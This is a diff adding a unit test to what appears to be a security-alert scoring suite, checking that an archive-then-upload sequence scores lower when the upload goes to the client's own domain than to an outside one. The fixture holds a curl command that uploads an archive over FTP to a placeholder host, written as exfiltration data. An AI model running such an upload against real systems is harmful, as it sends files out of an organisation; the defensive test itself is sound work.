@@ -124,6 +124,27 @@ describe('each factor moves the probability its way', () => {
     ['a management program elsewhere', { rules: [rule(detail('process.parent.executable', 'C:\\Users\\x\\CcmExec.exe'))] }],
   ])('counts no %s', (_what, more) => expect(p(more)).toBe(plain));
 
+  test('counts data that goes to the client’s own domain as no step', () => {
+    const packed = rule({ tactics: ['collection'], techniques: ['T1560.001'], at: 1 });
+    const sent = (to: string) => {
+      const command = detail('process.command_line', `curl -T a.7z ftp://${to}/in/`);
+      return p({
+        rules: [
+          packed,
+          rule({
+            ruleId: 2,
+            event: 'event 2',
+            at: 2,
+            tactics: ['exfiltration'],
+            techniques: ['T1048'],
+            device: 'ws-1.alder.example',
+            ...command,
+          }),
+        ],
+      });
+    };
+    expect(sent('archive.alder.example')).toBeLessThan(sent('archive.other.example') - 0.1);
+  });
   test('counts no habit of an account that came from a new public address', () => {
     const from = (days: number) => p({ rules: [rule(person(9, { isOutside: true, days }))] });
     expect(from(0)).toBeGreaterThan(plain);
